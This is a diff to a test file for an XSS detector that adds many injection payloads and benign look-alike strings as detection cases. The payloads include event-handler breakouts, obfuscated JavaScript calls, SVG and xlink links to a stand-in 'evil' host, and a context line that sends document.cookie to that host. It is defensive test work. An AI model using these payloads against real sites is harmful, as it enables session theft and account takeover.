@@ -55,10 +55,25 @@ describe('xssDetector', () => {
     ['[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]', XSS_RULES.jsFuck],
     ["{{constructor.constructor('alert(1)')()}}", XSS_RULES.angularSandbox],
     ["new Image().src='//evil?c='+document.cookie", XSS_RULES.cookieExfiltration],
+    ['print(document.domain)', XSS_RULES.jsDomSource],
+    ['<svg><set attributeName="xlink:href" to="//evil/?a" /></svg>', XSS_RULES.svgAnimatedLink],
+    ['<?xml-stylesheet type="text/xsl" href="#"?><x/>', XSS_RULES.xslStylesheet],
+    ['<math><a xlink:href="//evil/">click', XSS_RULES.xlinkHref],
     ['%3Cscript%3Ealert(1)%3C/script%3E', XSS_RULES.dangerousTag],
     ['＜script＞alert(1)＜/script＞', XSS_RULES.dangerousTag],
     ['+ADw-script+AD4-alert(1)+ADw-/script+AD4-', XSS_RULES.dangerousTag],
     ['\\xbcscript\\xbealert(1)\\xbc/script\\xbe', XSS_RULES.dangerousTag],
+    ['<script>alert</script>', XSS_RULES.dangerousTag],
+    ['<script>\nalert`1`', XSS_RULES.dangerousTag],
+    ['\'\';!--"<XSS>=&{()}', XSS_RULES.probeTag],
+    ['" oncancel=alert(1) x="', XSS_RULES.eventHandler],
+    ['x" onclick=(alert)(1) y="', XSS_RULES.eventHandler],
+    ['`${alert(1)}`', XSS_RULES.jsProbeCall],
+    ['" var onfocus=alert(1) autofocus x="', XSS_RULES.eventHandler],
+    ['`<script>`;alert(1)//', XSS_RULES.dangerousTag],
+    ['eval.call `${alert(1)}`', XSS_RULES.jsTaggedTemplate],
+    ["this['alert'](4)", XSS_RULES.jsObfuscatedAccess],
+    ['top[8680439..toString(30)](1)', XSS_RULES.jsObfuscatedAccess],
   ])('detects %j with its rule at paranoia 1, scoring at least 5', (raw, rule) => {
     expect(ruleIds(raw)).toContain(rule.id);
     expect(score(raw)).toBeGreaterThanOrEqual(5);
@@ -96,6 +111,18 @@ describe('xssDetector', () => {
     'Give the button onclick=save and it submits',
     'It\'s done; set onload=init in the config',
     'return `Hello ${user.name}!`;',
+    'the <script> tag is dangerous',
+    'The <style> element holds CSS.',
+    'the <iframe> element embeds another page',
+    'const onClick = () => setOpen(!open);',
+    '<Button onClick={handleClick}>Save</Button>',
+    '`${price} USD`',
+    "var onExit = require('signal-exit')",
+    "const onFinished = require('on-finished');",
+    'You may call `cache.set(key, undefined)`, but this is just',
+    'browsers which do not recognize `<script>` tags',
+    'const id = Math.random().toString(36).slice(2);',
+    "this['handler'](evt)",
   ])('leaves %j below the blocking score at paranoia 1', (raw) => {
     expect(score(raw)).toBeLessThan(5);
   });
@@ -103,8 +130,8 @@ describe('xssDetector', () => {
   it('keeps weak signals for higher paranoia levels', () => {
     expect(ruleIds('<svg>', 1)).toEqual([]);
     expect(ruleIds('<svg>', 2)).toContain(XSS_RULES.riskyTag.id);
-    expect(ruleIds('document.cookie', 1)).toEqual([]);
-    expect(ruleIds('document.cookie', 2)).toContain(XSS_RULES.jsSensitiveProperty.id);
+    expect(ruleIds('read document.cookie in the console', 1)).toEqual([]);
+    expect(ruleIds('read document.cookie in the console', 2)).toContain(XSS_RULES.jsSensitiveProperty.id);
     expect(ruleIds('<b>bold</b>', 3)).not.toContain(XSS_RULES.anyTag.id);
     expect(ruleIds('<b>bold</b>', 4)).toContain(XSS_RULES.anyTag.id);
   });
